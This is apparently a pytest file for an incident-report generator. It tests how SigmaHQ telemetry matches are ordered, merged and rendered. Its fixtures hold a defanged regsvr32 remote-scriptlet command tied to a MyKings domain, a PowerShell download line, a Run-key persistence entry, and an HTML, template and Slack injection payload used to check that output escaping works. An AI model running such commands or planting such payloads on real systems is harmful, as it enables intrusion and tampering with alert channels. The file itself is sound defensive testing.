"""The report's "how it happened" from the hosts' own telemetry: the events SigmaHQ rules matched (triage's
``sigma`` reasons, and the features' ``sigma.matched`` past the reasons' cap), told in time order with time,
host, key field and the rule credited; merged with the alerts' evidence chain without telling a step twice.
"""

from __future__ import annotations

from typing import Any

import pytest

from flows.demo import mykings_alert
from flows.models import Alert, Reason, Verdict, VerdictLabel
from flows.notify import incident_context, render_channel
from flows.notify._sequence import parse_detail, telemetry_steps
from flows.store import Store
from flows.tenants import NotifyTarget, Tenant

TENANT = Tenant(id="demo", name="Demo Customer Ltd.", notify=[NotifyTarget(url="outbox://demo")])
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


def sigma(
    rule: str,
    title: str,
    when: str,
    detail: str,
    *,
    level: str = "medium",
    count: int = 1,
    host: str = "WS-1",
    code: str = "sigma",
) -> Reason:
    return Reason(
        question="Which attack techniques does it show?",
        finding=f'SigmaHQ rule "{title}" matched',
        effect=0,
        code=code,
        params={
            "title": title,
            "rule": rule,
            "level": level,
            "author": "someone",
            "count": count,
            "host": host,
            "when": when,
            "detail": detail,
            "techniques": [],
        },
    )


def incident(
    store: Store,
    reasons: list[Reason],
    matched: list[dict[str, Any]] | None = None,
    document: dict[str, Any] | None = None,
) -> Any:
    document = document or {
        "class_uid": 2004,
        "severity_id": 3,
        "time": 1794303660000,
        "metadata": {"tenant_uid": "demo", "product": {"name": "Some EDR"}, "uid": "a-1"},
        "finding_info": {"uid": "f-1", "title": "Suspicious activity on WS-1"},
        "device": {"hostname": "WS-1"},
    }
    alert = Alert.model_validate(document)
    incident_id = store.record_alert(alert, document).incident_id
    store.set_verdict(incident_id, Verdict(verdict=VerdictLabel.MALICIOUS, score=80, reasons=reasons))
    if matched is not None:
        store.add_timeline(
            incident_id, "classify", "triage features", {"features": {"sigma": {"matched": matched}}}
        )
    view = store.incident(incident_id)
    assert view is not None
    return view, [alert]


def test_a_detail_splits_only_where_a_key_field_starts() -> None:
    detail = 'Image=C:\\ps.exe; CommandLine=ps -c "a; b=1; Details=x"; ParentImage=C:\\explorer.exe'

    assert parse_detail(detail) == {
        "Image": "C:\\ps.exe",
        "CommandLine": 'ps -c "a; b=1',  # a command line naming a key field is split there: it is data
        "Details": 'x"',
        "ParentImage": "C:\\explorer.exe",
    }
    assert parse_detail("(no key fields)") == {}


def test_steps_are_told_in_time_order_not_in_the_verdicts_order(store: Store) -> None:
    explorer = "ParentImage=C:\\Windows\\explorer.exe"
    reasons = [  # triage orders its reasons by weight: the high match first
        sigma(
            "r-load",
            "Side-load",
            "2026-11-10 08:13:48 UTC",
            r"Image=C:\a\Soft.exe; ImageLoaded=C:\a\v.dll",
            level="high",
        ),
        sigma(
            "r-ps", "Download", "2026-11-10 08:13:41 UTC", f"Image={PS}; CommandLine=ps -c iwr; {explorer}"
        ),
        sigma("r-routine", "Routine", "2026-11-10 07:00:00 UTC", f"Image={PS}", code="sigma_routine"),
        sigma(
            "r-svc",
            "Service",
            "2026-11-10 08:15:02 UTC",
            r'ServiceName=Software Update; ImagePath="C:\a\S.exe"',
        ),
    ]
    view, alerts = incident(store, reasons)

    steps, more = telemetry_steps(view)

    assert [s.rules[0].id for s in steps] == ["r-ps", "r-load", "r-svc"] and more == 0  # routine is not told
    assert [(s.kind, s.stage) for s in steps] == [
        ("process_parent", "execution"),
        ("module", "execution"),
        ("service", "persistence"),
    ]
    context = incident_context(view, TENANT, language="en", alerts=alerts)
    assert [s["what"] for s in context["sequence"]] == [
        "explorer.exe started powershell.exe: ps -c iwr",
        "Soft.exe loaded C:\\a\\v.dll",
        'The service "Software Update" was installed: "C:\\a\\S.exe"',
    ]
    assert context["sequence"][0]["at"] == "2026-11-10 08:13:41 UTC"
    assert context["sequence"][2]["credit"] == 'SigmaHQ rule "Service" (r-svc)'
    # The telemetry's service is an autostart the recommendations name (nothing removed it).
    assert any("(Software Update)" in advice for advice in context["mitigations"])


def test_two_rules_on_one_event_are_one_step_and_features_order_events_of_one_second(store: Store) -> None:
    written = f"Image={PS}; TargetFilename=C:\\a\\Soft.exe"
    connected = f"Image={PS}; DestinationIp=203.0.113.18; DestinationPort=80"
    reasons = [
        sigma("r-low", "Exe by exe", "2026-11-10 08:13:47 UTC", written, level="low"),
        sigma("r-drop", "Dropper", "2026-11-10 08:13:47 UTC", written, count=2),
        sigma("r-net", "PS network", "2026-11-10 08:13:47 UTC", connected),
    ]

    def seen(rule: str, title: str, first: str, **more: Any) -> dict[str, Any]:
        return {"id": rule, "title": title, "level": "low", "first": first, "host": "WS-1", **more}

    matched = [
        seen("r-net", "PS network", "2026-11-10T08:13:47.050000+00:00"),
        seen("r-drop", "Dropper", "2026-11-10T08:13:47.102000+00:00"),
        seen("r-low", "Exe by exe", "2026-11-10T08:13:47.102000+00:00"),
        # past the reasons' cap: in the features only, told without key fields
        seen("r-late", "Late one", "2026-11-10T09:00:00+00:00", events=3),
        seen("r-alert", "In the alert", "2026-11-10T09:01:00+00:00", in_alert=True),
    ]
    view, alerts = incident(store, reasons, matched)

    context = incident_context(view, TENANT, language="en", alerts=alerts)

    told = context["sequence"]
    assert [s["rules"] for s in told] == [["r-net"], ["r-drop", "r-low"], ["r-late"]]
    assert told[0]["what"] == "powershell.exe connected to 203[.]0[.]113[.]18 on port 80"
    assert told[1]["what"] == "powershell.exe wrote C:\\a\\Soft.exe (2 matching events)"
    assert told[1]["credit"] == 'SigmaHQ rules "Dropper" (r-drop), "Exe by exe" (r-low)'
    assert (
        told[2]["what"] == "An event matched (3 matching events)"
        and told[2]["at"] == "2026-11-10 09:00:00 UTC"
    )


def test_what_the_telemetry_tells_is_not_told_again_from_the_alerts(store: Store) -> None:
    document = mykings_alert()  # regsvr32 fetching v.sct; Run values start and start1
    process = document["evidences"][0]["process"]
    detail = f"Image=C:\\Windows\\System32\\regsvr32.exe; CommandLine={process['cmd_line']}"
    reasons = [
        sigma("r-regsvr", "Regsvr32 scriptlet", "2019-07-23 08:59:00 UTC", detail, host="WS-FINANCE-07")
    ]
    view, alerts = incident(store, reasons, document=document)

    context = incident_context(view, TENANT, language="en", alerts=alerts)
    text = render_channel("incident_report", "text", "en", context).body

    told = text[text.index("HOW IT HAPPENED") : text.index("INDICATORS")]
    assert told.count("regsvr32 /s /n /u /i:hxxp://js[.]mykings[.]top:280/v[.]sct scrobj.dll") == 3  # once
    assert "    - regsvr32.exe ran:" not in told  # the alert's copy of the launch is left out
    assert "From the alerts' own evidence:" in told  # the rest of the alert's chain follows, by stage
    assert (
        told.index("1. 2019-07-23 08:59:00 UTC") < told.index("From the alerts") < told.index("How it stayed")
    )
    assert "Autorun value HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\start1" in told


@pytest.mark.parametrize("channel", ["text", "markdown", "html", "slack"])
def test_hostile_telemetry_stays_inert_in_every_channel(store: Store, channel: str) -> None:
    payload = "<!channel> {{7*7}} http://evil.example/x <script>alert(1)</script>"
    reasons = [
        sigma(
            "r-1", payload, "2026-11-10 08:00:00 UTC", f"Image={payload}; CommandLine={payload}", host=payload
        ),
    ]
    view, alerts = incident(store, reasons)

    body = render_channel(
        "incident_report", channel, "en", incident_context(view, TENANT, alerts=alerts)
    ).body

    assert "http://" not in body and "<!channel>" not in body and "<script>" not in body
    if channel != "slack":  # the Slack summary tells no chain
        assert "7*7" in body or "7\\*7" in body  # shown, never evaluated
